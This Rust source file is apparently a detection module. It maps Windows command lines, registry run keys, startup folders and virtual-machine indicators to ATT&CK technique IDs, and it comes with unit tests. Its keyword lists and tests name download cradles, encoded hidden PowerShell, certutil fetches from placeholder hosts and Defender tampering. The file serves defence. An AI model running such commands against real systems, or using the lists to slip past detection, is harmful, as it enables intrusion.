//! Command lines, registry keys and paths: which techniques of ATT&CK they stand for.

/// Programs that run what they are given, and the technique of each.
const PROGRAMS: [(&str, &str); 28] = [
    ("powershell", "T1059.001"),
    ("pwsh", "T1059.001"),
    ("cmd", "T1059.003"),
    ("%comspec%", "T1059.003"),
    ("wscript", "T1059.005"),
    ("cscript", "T1059.005"),
    ("mshta", "T1218.005"),
    ("regsvr32", "T1218.010"),
    ("rundll32", "T1218.011"),
    ("installutil", "T1218.004"),
    ("msiexec", "T1218.007"),
    ("regasm", "T1218.009"),
    ("regsvcs", "T1218.009"),
    ("cmstp", "T1218.003"),
    ("msbuild", "T1127.001"),
    ("bitsadmin", "T1197"),
    ("start-bitstransfer", "T1197"),
    ("certutil", "T1140"),
    ("schtasks", "T1053.005"),
    ("wmic", "T1047"),
    ("vssadmin", "T1490"),
    ("wbadmin", "T1490"),
    ("bcdedit", "T1490"),
    ("tasklist", "T1057"),
    ("whoami", "T1033"),
    ("systeminfo", "T1082"),
    ("ipconfig", "T1016"),
    ("python", "T1059.006"),
];

/// Words in a command line, and the technique of each.
const WORDS: [(&str, &str); 24] = [
    ("downloadstring", "T1105"),
    ("downloadfile", "T1105"),
    ("downloaddata", "T1105"),
    ("invoke-webrequest", "T1105"),
    ("iwr ", "T1105"),
    ("urlcache", "T1105"),
    ("/transfer", "T1105"),
    ("curl ", "T1105"),
    ("wget ", "T1105"),
    ("-encodedcommand", "T1027.010"),
    ("-enc ", "T1027.010"),
    ("-e ", "T1027.010"),
    ("frombase64string", "T1027.010"),
    ("-w hidden", "T1564.003"),
    ("-windowstyle hidden", "T1564.003"),
    ("-win hidden", "T1564.003"),
    ("set-mppreference", "T1562.001"),
    ("add-mppreference", "T1562.001"),
    ("netsh advfirewall", "T1562.004"),
    ("netsh firewall", "T1562.004"),
    ("currentversion\\run", "T1547.001"),
    ("net user", "T1087.001"),
    ("net localgroup", "T1069.001"),
    ("attrib +h", "T1564.001"),
];

/// Techniques that a command line stands for.
#[must_use]
pub fn techniques(command: &str) -> Vec<&'static str> {
    let lower = command.to_lowercase();
    let mut found: Vec<&'static str> = Vec::new();
    let programs = PROGRAMS.iter().filter(|(name, _)| names_program(&lower, name));
    let powershell = names_program(&lower, "powershell") || names_program(&lower, "pwsh");
    let words = WORDS.iter().filter(|(word, _)| has_word(&lower, word) && (powershell || !word.starts_with('-')));
    for (_, technique) in programs.chain(words) {
        let technique = if *technique == "T1059.005" && is_jscript(&lower) { "T1059.007" } else { technique };
        if !found.contains(&technique) {
            found.push(technique);
        }
    }
    found
}

/// Whether Windows Script Host is given JScript.
fn is_jscript(lower: &str) -> bool {
    [".js ", ".js\"", ".jse", "e:jscript"].iter().any(|sign| lower.contains(sign)) || lower.ends_with(".js")
}

/// Whether a text is there and is no word's end; one that begins with a sign may stand anywhere.
fn has_word(lower: &str, word: &str) -> bool {
    let is_sign = !word.starts_with(|letter: char| letter.is_alphanumeric());
    lower.match_indices(word).any(|(at, _)| {
        let before = at.checked_sub(1).and_then(|before| lower.as_bytes().get(before));
        is_sign || before.is_none_or(|byte| !byte.is_ascii_alphanumeric())
    })
}

/// Whether a program is named as a word, with or without folder and `.exe`.
fn names_program(lower: &str, name: &str) -> bool {
    let is_word = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.%".contains(&byte);
    lower.match_indices(name).take(64).any(|(at, _)| {
        let before = at.checked_sub(1).and_then(|before| lower.as_bytes().get(before));
        let rest = lower.get(at + name.len()..).unwrap_or_default();
        let rest = rest.strip_prefix(".exe").unwrap_or(rest);
        before.is_none_or(|&byte| !is_word(byte)) && rest.bytes().next().is_none_or(|byte| !is_word(byte))
    })
}

/// Ways in which a command line makes something start again.
pub fn persists(command: &str) -> impl Iterator<Item = (&'static str, &str)> {
    let lower = command.to_lowercase();
    let task =
        names_program(&lower, "schtasks") && lower.contains("/create") || lower.contains("register-scheduledtask");
    let run = is_autostart_key(&lower)
        && (lower.contains("reg add") || lower.contains("reg.exe add") || lower.contains("-itemproperty"));
    let service = lower.contains("sc create") || lower.contains("sc.exe create") || lower.contains("new-service");
    let ways = [
        (task, "scheduled task"),
        (run, "registry value that starts programs"),
        (service, "service"),
        (is_startup_folder(&lower), "file in a startup folder"),
    ];
    ways.into_iter().filter(|(is, _)| *is).map(move |(_, how)| (how, command))
}

/// Whether a command names a program that runs files whatever their names are.
#[must_use]
pub fn runs_files(command: &str) -> bool {
    const RUNNERS: [&str; 14] = [
        "powershell",
        "pwsh",
        "wscript",
        "cscript",
        "mshta",
        "regsvr32",
        "rundll32",
        "installutil",
        "msiexec",
        "regasm",
        "regsvcs",
        "cmstp",
        "msbuild",
        "python",
    ];
    let lower = command.to_lowercase();
    RUNNERS.iter().any(|name| names_program(&lower, name))
}

/// Files that are shown and not run, by the ends of their names.
#[must_use]
pub fn is_document(path: &str) -> bool {
    const ENDS: [&str; 14] = [
        ".txt", ".log", ".csv", ".htm", ".html", ".xml", ".json", ".ini", ".md", ".pdf", ".rtf", ".docx", ".xlsx",
        ".png",
    ];
    let lower = path.to_lowercase();
    ENDS.iter().any(|end| lower.ends_with(end))
}

/// Addresses in a command line.
pub fn urls(command: &str) -> impl Iterator<Item = &str> {
    let starts = command.match_indices("http").take(32).filter_map(|(at, _)| command.get(at..));
    let starts = starts.filter(|rest| rest.starts_with("http://") || rest.starts_with("https://"));
    starts.map(|rest| {
        let end = rest.find(|char: char| char.is_whitespace() || "'\"`)>|<;,^".contains(char)).unwrap_or(rest.len());
        rest.get(..end).unwrap_or_default()
    })
}

#[must_use]
pub fn is_startup_folder(path: &str) -> bool {
    path.to_lowercase().replace('/', "\\").contains("start menu\\programs\\startup")
}

/// Keys whose values start programs.
#[must_use]
pub fn is_autostart_key(key: &str) -> bool {
    const KEYS: [&str; 9] = [
        "\\currentversion\\run\\",
        "\\currentversion\\runonce\\",
        "\\currentversion\\policies\\explorer\\run",
        "\\currentversion\\run ",
        "\\currentversion\\run\"",
        "\\currentversion\\runonce ",
        "\\winlogon\\shell",
        "\\winlogon\\userinit",
        "\\windows nt\\currentversion\\windows\\load",
    ];
    let lower = key.to_lowercase();
    KEYS.iter().any(|known| lower.contains(known)) || lower.ends_with("\\currentversion\\run")
}

/// Keys and names that tell a virtual machine: words begin with them.
#[must_use]
pub fn is_machine_check(text: &str) -> bool {
    const WORDS: [&str; 18] = [
        "vmware",
        "vbox",
        "virtualbox",
        "virtual machine",
        "qemu",
        "xenserv",
        "xensrc",
        "xenvbd",
        "xenhvm",
        "xenvm",
        "hyper-v",
        "systembiosversion",
        "videobiosversion",
        "disk\\enum",
        "sandboxie",
        "wine\\",
        "parallels",
        "vmtools",
    ];
    let lower = text.to_lowercase();
    WORDS.iter().any(|word| has_word(&lower, word))
        || lower.split(|letter: char| !letter.is_alphanumeric()).any(|word| word == "xen")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_and_words_stand_for_techniques() {
        let found = techniques("C:\\Windows\\System32\\cmd.exe /c powershell -w hidden -enc AAAA");
        assert_eq!(found, ["T1059.001", "T1059.003", "T1027.010", "T1564.003"]);
        assert_eq!(techniques("certutil -urlcache -f http://x/a b"), ["T1140", "T1105"]);
        assert_eq!(techniques("wscript.exe //B C:\\a.js"), ["T1059.007"]);
        assert_eq!(techniques("cscript a.vbs"), ["T1059.005"]);
        assert!(techniques("dotnet user-secrets list").is_empty());
        assert!(techniques("notepad.exe C:\\cmdlets\\my-powershell.txt").is_empty());
    }

    #[test]
    fn ways_to_stay_are_told() {
        let ways = |command| persists(command).map(|(how, _)| how).collect::<Vec<_>>();
        assert_eq!(ways("schtasks /create /tn x /tr y"), ["scheduled task"]);
        assert_eq!(
            ways("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x"),
            ["registry value that starts programs"]
        );
        assert!(ways("schtasks /query").is_empty());
        assert!(is_autostart_key("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"));
        assert!(!is_autostart_key("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Running\\x"));
    }

    #[test]
    fn names_of_virtual_machines_are_words() {
        for text in
            ["HARDWARE\\ACPI\\DSDT\\VBOX__", "Xen", "select * from x where y = 'VMware7,1'", "C:\\Xenservice.exe"]
        {
            assert!(is_machine_check(text), "{text}");
        }
        for text in ["maxEntries.json", "lib/indexEnd.js", "C:\\twine\\a", "luxenburg"] {
            assert!(!is_machine_check(text), "{text}");
        }
    }

    #[test]
    fn addresses_end_where_the_command_goes_on() {
        let command =
            "powershell (New-Object Net.WebClient).DownloadFile('http://a.example/b','c'); iwr https://d.example";
        assert_eq!(urls(command).collect::<Vec<_>>(), ["http://a.example/b", "https://d.example"]);
    }
}
